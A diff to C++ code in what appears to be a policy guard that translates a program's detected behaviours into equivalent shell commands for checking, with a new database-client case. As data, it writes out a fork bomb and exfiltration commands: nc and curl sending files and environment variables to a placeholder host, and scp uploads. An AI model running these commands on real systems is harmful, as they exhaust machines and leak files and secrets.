@@ -2,6 +2,7 @@
 #include <algorithm>
 #include <utility>
 
+#include "policy/guard/program/database_address.h"
 #include "policy/guard/program/program.h"
 #include "policy/guard/word_list.h"
 #include "shell/quote.h"
@@ -156,6 +157,10 @@ class CommandsOfProgram {
         return run(":(){ :|:& };:");
       case A::query:
         return add_query(finding);
+      case A::database:
+        return;  // what is done there counts
+      case A::documents:
+        return run(database_client(*report_, "mongosh", {{"--eval"}, {"db.x.updateOne({})"}}));
       case A::evaluate:
         return add_evaluated(finding);
       case A::load:
@@ -402,9 +407,8 @@ class CommandsOfProgram {
     if (signal_first) {
       for (std::size_t i = 1; i < count; ++i) add_words(value(finding, i), words);
     } else {
-      const bool group = finding.name.ends_with("killpg");
       SeenWord process = word_of(value(finding, 0));
-      if (group) process.text.insert(0, 1, '-');
+      if (finding.name.ends_with("killpg")) process.text.insert(0, 1, '-');
       words.push_back(std::move(process));
     }
     run(std::move(words));
@@ -413,8 +417,8 @@ class CommandsOfProgram {
   // A file of the project says nothing about the program.
   void add_read(const ProgramFinding& finding) {
     const ProgramValue& path = path_of(finding);
-    const bool outside = path.text.starts_with('/') || path.text.starts_with("~/");
-    if (!path.list && outside) run({{"cat"}, word_of(path)});
+    if (!path.list && (path.text.starts_with('/') || path.text.starts_with("~/")))
+      run({{"cat"}, word_of(path)});
   }
 
   // What is read is taken for what is sent.
@@ -437,11 +441,8 @@ class CommandsOfProgram {
       if (one.act != A::read) continue;
       const ProgramValue& path = path_of(one);
       if (path.list || path.wholly_unknown()) continue;
-      if (socket) {
-        run("nc host 1 < " + shell_word(path.text));
-      } else {
-        run({{"curl"}, {"--data-binary"}, {"@" + path.text}, {url}});
-      }
+      if (socket) run("nc host 1 < " + shell_word(path.text));
+      if (!socket) run({{"curl"}, {"--data-binary"}, {"@" + path.text}, {url}});
     }
     if (report_->shows_environment) run("env | curl -d @- " + shell_word(url));
   }
@@ -456,13 +457,11 @@ class CommandsOfProgram {
 
   void add_upload(const ProgramFinding& finding) {
     for (const ProgramValue& one : finding.arguments.values) {
-      const bool path = !one.list && one.text.contains('/');
-      if (path) run({{"scp"}, word_of(one), {"host:"}});
+      if (!one.list && one.text.contains('/')) run({{"scp"}, word_of(one), {"host:"}});
     }
     for (const ProgramFinding& one : report_->findings) {
-      if (one.act == A::read && !path_of(one).list) {
-        run({{"scp"}, word_of(path_of(one)), {"host:"}});
-      }
+      if (one.act != A::read || path_of(one).list) continue;
+      run({{"scp"}, word_of(path_of(one)), {"host:"}});
     }
   }
 
@@ -470,7 +469,7 @@ class CommandsOfProgram {
   void add_query(const ProgramFinding& finding) {
     const ProgramValue& text = value(finding, 0);
     if (text.list || text.wholly_unknown() || report_->makes_tables) return;
-    run({{"psql"}, {"-c"}, word_of(text)});
+    run(database_client(*report_, "psql", {{"-c"}, word_of(text)}));
   }
 
   void add_evaluated(const ProgramFinding& finding) {
